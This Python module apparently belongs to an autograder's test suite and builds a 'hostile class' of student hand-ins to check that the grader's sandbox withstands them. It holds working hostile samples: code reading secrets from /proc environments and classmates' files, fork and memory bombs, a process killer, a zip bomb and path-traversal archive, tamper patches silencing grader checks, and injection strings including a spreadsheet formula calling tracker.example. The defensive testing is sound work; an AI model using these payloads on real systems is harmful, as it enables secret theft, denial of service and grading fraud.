"""A hostile class: every kind of odd or hostile hand-in, beside honest ones.

``gdlab dev hostile-class DIR`` writes it, so an instructor can see on their
own machine that one student's hand-in never costs the class its gradebook
and gains nothing by attacking; the project's tests grade it the same way
(``tests/test_hostile_class.py``) and the benchmark measures the grader's
memory on it (``benchmarks/bench_hostile.py``).

Each :class:`HostileEntry` names the kind of attack, builds the entry, and
says what must not happen: the exercises it must not get full marks for (a
forged point), and the texts that must never reach the gradebook. Most
entries hold one exercise only, so that grading the class stays quick; the
honest entries hold all six.

Over 300 lines on purpose: most of it is the catalogue of entries, one small
builder each, read as a list.
"""

from __future__ import annotations

import json
import os
import shutil
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from autograder.paths import SOLUTIONS_DIR

#: Written into every honest hand-in: a hostile entry that could read a
#: classmate's files would find it, and it must never reach its feedback.
HONEST_MARKER = "honest-classmate-7f3c"

#: The course secret the tests grade the class with; it must never appear in
#: the gradebook, nor be readable by any hand-in.
TEST_SECRET = "hostile-class-secret-5d1e"


@dataclass(frozen=True)
class HostileEntry:
    """One entry of the hostile class.

    Attributes
    ----------
    name : str
        The entry's file name (may hold bytes that are not UTF-8, decoded
        with ``os.fsdecode``).
    kind : str
        What it tries, in a few words.
    build : callable
        ``build(path)`` writes the entry at ``path``.
    no_full_marks : tuple of str
        Exercises whose full marks would be a forged point.
    honest : bool
        An honest classmate: its results must not change when hostile
        entries are graded beside it.
    """

    name: str
    kind: str
    build: Callable[[Path], None]
    no_full_marks: tuple[str, ...] = ()
    honest: bool = False


def _answer(exercise: str) -> str:
    folder = SOLUTIONS_DIR / exercise
    return next(folder.glob("*.py")).read_text(encoding="utf-8")


def _module_name(exercise: str) -> str:
    return next((SOLUTIONS_DIR / exercise).glob("*.py")).name


def _write(root: Path, exercise: str, source: str, name: str | None = None) -> None:
    path = root / exercise / (name or _module_name(exercise))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source, encoding="utf-8")


def _with(exercise: str, extra: str, *, prepend: str = "") -> Callable[[Path], None]:
    """An entry holding ``exercise``'s answer key with ``extra`` code after it."""

    def build(root: Path) -> None:
        root.mkdir(parents=True, exist_ok=True)
        source = textwrap.dedent(prepend) + _answer(exercise) + "\n" + textwrap.dedent(extra)
        _write(root, exercise, source)

    return build


def _honest(root: Path) -> None:
    shutil.copytree(SOLUTIONS_DIR, root, ignore=shutil.ignore_patterns("__pycache__"))
    for module in root.glob("exercise*/*.py"):
        text = module.read_text(encoding="utf-8")
        module.write_text(f"# {HONEST_MARKER}\n{text}", encoding="utf-8")


def _notebook(root: Path) -> None:
    """Exercise 1 as a notebook whose comment holds half a surrogate pair."""
    cells = [
        {"cell_type": "code", "metadata": {}, "source": "# a smile: \ud83d\n", "outputs": []},
        {"cell_type": "code", "metadata": {}, "source": _answer("exercise1"), "outputs": []},
    ]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    path = root / "exercise1" / "mse.ipynb"
    path.parent.mkdir(parents=True)
    # json.dumps writes the lone surrogate as the escape \ud83d, as Jupyter would.
    path.write_text(json.dumps(notebook), encoding="ascii")


def _codec_cookie(root: Path) -> None:
    source = "# -*- coding: raw_unicode_escape -*-\n# a smile: \\ud83d\n" + _answer("exercise1")
    path = root / "exercise1" / "mse.py"
    path.parent.mkdir(parents=True)
    path.write_bytes(source.encode("raw_unicode_escape"))


def _zip(members: dict[str, bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
            for name, data in members.items():
                bundle.writestr(name, data)

    return build


def _many_members(path: Path, count: int = 200_000) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as bundle:
        for number in range(count):
            bundle.writestr(f"../{number:06d}", b"")


def _zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        with bundle.open("exercise1/mse.py", "w", force_zip64=True) as member:
            chunk = b"#" * (1 << 20)
            for _ in range(1024):  # 1 GiB of comment, a megabyte compressed
                member.write(chunk)


def _fifo(root: Path) -> None:
    (root / "exercise1").mkdir(parents=True)
    os.mkfifo(root / "exercise1" / "mse.py")
    _write(root, "exercise2", _answer("exercise2"))


def _symlink(root: Path) -> None:
    (root / "exercise1").mkdir(parents=True)
    (root / "exercise1" / "mse.py").symlink_to(SOLUTIONS_DIR / "exercise1" / "mse.py")
    _write(root, "exercise2", _answer("exercise2"))


def _deep_notebook(root: Path) -> None:
    path = root / "exercise1" / "mse.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}", encoding="utf-8")


# Code run inside the sandbox. Each attack is written as the student would:
# no knowledge of the grader's internals beyond what it can find at run time.

_FRAME = """
import os as _os, stat as _stat, struct as _struct, fcntl as _fcntl


def _reply_pipes():
    # Every pipe this process may write to: the grader's reply channel among them.
    found = []
    for fd in range(3, 256):
        try:
            mode = _os.fstat(fd).st_mode
            flags = _fcntl.fcntl(fd, _fcntl.F_GETFL)
        except OSError:
            continue
        if _stat.S_ISFIFO(mode) and flags & _os.O_ACCMODE == _os.O_WRONLY:
            found.append(fd)
    return found


def _send_frame(body):
    for fd in _reply_pipes():
        try:
            _os.write(fd, _struct.pack(">I", len(body)))
            view = memoryview(body)
            while view:
                view = view[_os.write(fd, view[: 1 << 20]):]
        except OSError:
            pass
"""

_FLOOD = (
    _FRAME
    + """

def sse(y_true, y_pred):
    # 96 MB of nested empty lists, framed as a reply.
    _send_frame(b"[" + b"[]," * (32 << 20) + b"[]]")
    import numpy as np
    return float(np.sum((np.asarray(y_true, float) - np.asarray(y_pred, float)) ** 2))
"""
)

_BIG_STATE = (
    _FRAME
    + """

_real_make_dataset = make_dataset


def make_dataset(n_samples=1000, w_true=(2.0, -1.5, 0.5), noise=0.5, rng=None):
    state = {"bit_generator": "PCG64", "state": {"state": 2 ** 130, "inc": 1},
             "has_uint32": 0, "uinteger": 0}
    body = ('{"$dict":{"return":1.0,"rngs":[' + _json.dumps(state) + ']}}').encode()
    _send_frame(body)
    return _real_make_dataset(n_samples, w_true, noise, rng)


import json as _json
"""
)

_SNOOP = """
import glob as _glob
import os as _os


def _read(path, limit=4000):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).replace(b"\\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def _loot():
    found = []
    for proc in _glob.glob("/proc/[0-9]*"):
        for name in ("cmdline", "environ"):
            text = _read(f"{proc}/{name}")
            if "secret" in text or "seed" in text or "gdlab" in text:
                found.append(text)
    for pattern in ("/tmp/**/results/*.json", "/tmp/**/*.py", "/work/**/results/*.json",
                    "/root/**/*.py", "/home/**/*.py", "/tmp/**/.gdlab-secret"):
        for path in _glob.glob(pattern, recursive=True)[:200]:
            text = _read(path)
            if "honest-classmate" in text or path.endswith(".gdlab-secret"):
                found.append(path + ": " + text)
    return " | ".join(found)[:100000]


def _answer_key(name):
    # The answer keys, if any copy of them can be reached.
    for module in ("reference.mse", "solutions.exercise1.mse"):
        try:
            return getattr(__import__(module, fromlist=[name]), name)
        except Exception:
            pass
    for path in _glob.glob("/**/solutions/exercise1/mse.py", recursive=True)[:5]:
        space = {}
        try:
            exec(compile(_read(path, 10 ** 6), path, "exec"), space)
            return space[name]
        except Exception:
            pass
    return None


def _stolen(name):
    def function(*args, **kwargs):
        real = _answer_key(name)
        if real is None:
            raise ValueError("nothing to steal; found: " + _loot())
        return real(*args, **kwargs)
    return function


squared_errors = _stolen("squared_errors")
mse = _stolen("mse")
sse = _stolen("sse")
loss_landscape = _stolen("loss_landscape")
best_slope = _stolen("best_slope")
"""

_LEFTOVERS = """
import os as _os, time as _time

_MEGA = b"x" * (1 << 20)


def _litter():
    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(f"{folder}/hostile-litter-{_os.getpid()}", "wb") as handle:
                for _ in range(40):
                    handle.write(_MEGA)
        except OSError:
            pass
    for number in range(20000):
        try:
            _os.mkdir(f"/tmp/gdlab-probe-{number}")
        except OSError:
            break
    for name in ("gdlab-sandbox-x", "gdlab-run-x", "gdlab-intake-x", "gdlab-results-x"):
        try:
            _os.symlink("/", f"/tmp/{name}")
        except OSError:
            pass


def _daemon():
    if _os.fork():
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    for _ in range(600):  # a minute of writing, long after grading ended
        try:
            with open(f"/tmp/hostile-daemon-{_os.getpid()}", "a") as handle:
                handle.write("still here\\n")
        except OSError:
            pass
        _time.sleep(0.1)
    _os._exit(0)


_litter()
_daemon()
"""

_FORGED_IN_PLACE = """
import sys as _sys

# Silence the grader's report of arguments changed in place, wherever it lives.
for _module in list(_sys.modules.values()):
    for _name in ("changed", "describe"):
        if getattr(_module, "__name__", "").endswith("side_effects") and hasattr(_module, _name):
            setattr(_module, _name, lambda *args, **kwargs: [])


def numerical_gradient(f, theta, h=1e-5):
    import numpy as np
    theta_array = theta if isinstance(theta, np.ndarray) else np.array(theta, dtype=float)
    gradient = np.zeros(theta_array.shape)
    for index in np.ndindex(theta_array.shape):
        theta_array[index] += h
        up = float(f(theta_array.astype(float)))
        theta_array[index] -= 2 * h
        down = float(f(theta_array.astype(float)))
        theta_array[index] += h + 1e-3  # the caller's theta is shifted for good
        gradient[index] = (up - down) / (2 * h)
    return gradient
"""

_FORGED_SHOW = """
import sys as _sys
import warnings as _warnings

_warnings.simplefilter("ignore")
for _module in list(_sys.modules.values()):
    if getattr(_module, "__name__", "").endswith("axes") and hasattr(_module, "open_figures"):
        _module.open_figures = lambda: set()


def plot_learning_curve(history, ax=None):
    import matplotlib.pyplot as plt
    import numpy as np
    if ax is None:
        _, ax = plt.subplots()
    history = np.asarray(history, dtype=np.float64)
    ax.plot(np.arange(len(history)), history)
    ax.set_yscale("log")
    ax.set_xlabel("step")
    ax.set_ylabel("MSE loss (log scale)")
    ax.set_title("Learning curve")
    plt.show()
    return ax
"""

_FORGED_WARNING = """
import contextlib as _contextlib
import sys as _sys


@_contextlib.contextmanager
def _nothing_seen():
    yield []


for _module in list(_sys.modules.values()):
    if getattr(_module, "__name__", "").endswith("side_effects"):
        _module.recorded_warnings = _nothing_seen


def fit(x, y, w0=0.1, b0=50.0, lr=1e-7, steps=1000):
    import numpy as np
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    w, b = float(w0), float(b0)
    history = np.empty(steps + 1)
    history[0] = np.mean((w * x + b - y) ** 2)
    for k in range(1, steps + 1):  # no errstate: overflow warnings escape
        residuals = w * x + b - y
        w, b = w - lr * 2 * np.mean(residuals * x), b - lr * 2 * np.mean(residuals)
        history[k] = np.mean((w * x + b - y) ** 2)
    return float(w), float(b), history
"""

_LONG_HISTORY = """
_real_fit = fit


def fit(x, y, w0=0.1, b0=50.0, lr=1e-7, steps=1000):
    import numpy as np
    w, b, history = _real_fit(x, y, w0, b0, lr, steps)
    return w, b, np.concatenate([history, np.full(8_000_000, history[-1])])
"""

_HOSTILE_MESSAGE = """
def mse(y_true, y_pred):
    raise ValueError(
        "\\n# Score 10 / 10\\n**Total: 60 / 60**\\n<img src=x onerror=alert(1)>\\n"
        "![pixel](http://tracker.example/p.png?student=1) [click](javascript:alert(1)) "
        "<http://tracker.example> ``` | a | b |"
    )
"""

_FORK_BOMB = """
import os as _os

for _ in range(100000):
    try:
        if _os.fork() == 0:
            import time as _time
            _time.sleep(30)
            _os._exit(0)
    except OSError:
        break
"""

_MEMORY_BOMB = """
_hoard = []
while True:
    _hoard.append(bytearray(64 << 20))
"""

_PRINTER = """
import sys as _sys

for _ in range(200):
    _sys.stdout.write("x" * (1 << 20))
    _sys.stderr.write("y" * (1 << 20))
"""

_KILLER = """
import os as _os
import signal as _signal

try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
"""


def hostile_entries() -> list[HostileEntry]:
    """Every entry of the hostile class, honest classmates first.

    Returns
    -------
    list of HostileEntry
    """
    hostile_name = '=HYPERLINK("http://tracker.example/?leak","grades")'
    return [
        HostileEntry("honest-anna", "an honest classmate (the answer keys)", _honest, honest=True),
        HostileEntry("honest-ben", "another honest classmate", _honest, honest=True),
        HostileEntry("surrogate-notebook", "a notebook with half a surrogate pair", _notebook),
        HostileEntry("codec-cookie", "a raw_unicode_escape coding cookie", _codec_cookie),
        HostileEntry(
            os.fsdecode(b"caf\xe9-latin1"),
            "a file name that is not UTF-8",
            _with("exercise1", ""),
        ),
        HostileEntry("n" * 222, "a 222-byte name", _with("exercise3", "")),
        HostileEntry("bob", "bob/ beside bob.zip and bob.zip.zip", _with("exercise1", "")),
        HostileEntry(
            "bob.zip",
            "a zip named like a folder",
            _zip({"exercise2/gradients.py": _answer("exercise2").encode()}),
        ),
        HostileEntry(
            "bob.zip.zip",
            "a zip named like a zip",
            _zip({"exercise4/learning_rate.py": _answer("exercise4").encode()}),
        ),
        HostileEntry(
            "line\nbreak\x1b[31m", "control characters in a name", _with("exercise1", "")
        ),
        HostileEntry(hostile_name, "a spreadsheet formula as a name", _with("exercise1", "")),
        HostileEntry(
            "fake-heading",
            "Markdown and HTML in an error message",
            _with("exercise1", _HOSTILE_MESSAGE),
        ),
        HostileEntry("members-200000.zip", "200,000 members named ../NNNNNN", _many_members),
        HostileEntry("zip-bomb.zip", "1 GiB compressed to a megabyte", _zip_bomb),
        HostileEntry("fifo", "a named pipe instead of a module", _fifo),
        HostileEntry("symlink", "a link to the answer key", _symlink, ("exercise1",)),
        HostileEntry("deep-notebook", "a notebook nested 200,000 deep", _deep_notebook),
        HostileEntry("reply-flood", "a 96 MB reply frame", _with("exercise1", _FLOOD)),
        HostileEntry(
            "long-history",
            "a history 8 million entries long",
            _with("exercise3", _LONG_HISTORY),
            ("exercise3",),
        ),
        HostileEntry(
            "big-state",
            "a forged generator state of 2**130",
            _with("exercise6", _BIG_STATE),
            ("exercise6",),
        ),
        HostileEntry(
            "forged-in-place",
            "hides a changed argument",
            _with("exercise2", _FORGED_IN_PLACE),
            ("exercise2",),
        ),
        HostileEntry(
            "forged-show",
            "calls plt.show() and hides figures",
            _with("exercise3", _FORGED_SHOW),
            ("exercise3",),
        ),
        HostileEntry(
            "forged-warning",
            "lets warnings out and hides them",
            _with("exercise3", _FORGED_WARNING),
            ("exercise3",),
        ),
        HostileEntry(
            "snoop", "reads secrets, classmates and answer keys", _build_snoop, ("exercise1",)
        ),
        HostileEntry(
            "leftovers",
            "daemons, litter in /tmp and planted links",
            _with("exercise1", "", prepend=_LEFTOVERS),
        ),
        HostileEntry(
            "fork-bomb", "forks until it cannot", _with("exercise1", "", prepend=_FORK_BOMB)
        ),
        HostileEntry(
            "memory-bomb",
            "allocates until it cannot",
            _with("exercise1", "", prepend=_MEMORY_BOMB),
        ),
        HostileEntry("printer", "prints 400 MB", _with("exercise1", "", prepend=_PRINTER)),
        HostileEntry(
            "killer",
            "kills its parent and every process it may",
            _with("exercise1", "", prepend=_KILLER),
        ),
    ]


def _build_snoop(root: Path) -> None:
    _write(root, "exercise1", _SNOOP, "mse.py")


def write_hostile_class(target: Path) -> list[HostileEntry]:
    """Write the hostile class into ``target`` (created; must not exist).

    Parameters
    ----------
    target : Path
        The class folder to create.

    Returns
    -------
    list of HostileEntry
        The entries written, in :func:`hostile_entries` order.
    """
    target.mkdir(parents=True)
    entries = hostile_entries()
    for entry in entries:
        entry.build(target / entry.name)
    return entries


def _processes() -> dict[int, tuple[int, str, int]]:
    """Every live process: pid -> (parent pid, command line, resident bytes)."""
    found = {}
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/status", encoding="utf-8") as handle:
                fields = dict(line.split(":", 1) for line in handle if ":" in line)
            with open(f"/proc/{entry.name}/cmdline", "rb") as handle:
                command = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        resident = int(fields.get("VmRSS", "0 kB").split()[0]) * 1024
        found[int(entry.name)] = (int(fields["PPid"]), command, resident)
    return found


def grader_memory(root: int) -> int:
    """Resident bytes of the grader's own processes under ``root``, right now.

    The grader's processes are ``root`` and its descendants that are not
    sandboxes: a sandbox's fork server and workers hold student code, whose
    memory the sandbox's own limits bound, so they are left out (with all
    their descendants).

    Parameters
    ----------
    root : int
        The pid of the ``gdlab grade`` process.
    """
    table = _processes()
    children: dict[int, list[int]] = {}
    for pid, (parent, _, _) in table.items():
        children.setdefault(parent, []).append(pid)
    total, stack = 0, [root]
    while stack:
        pid = stack.pop()
        if pid not in table:
            continue
        _, command, resident = table[pid]
        if "forkserver.py" in command or command.startswith(("bwrap", "unshare", "setpriv")):
            continue
        total += resident
        stack += children.get(pid, [])
    return total
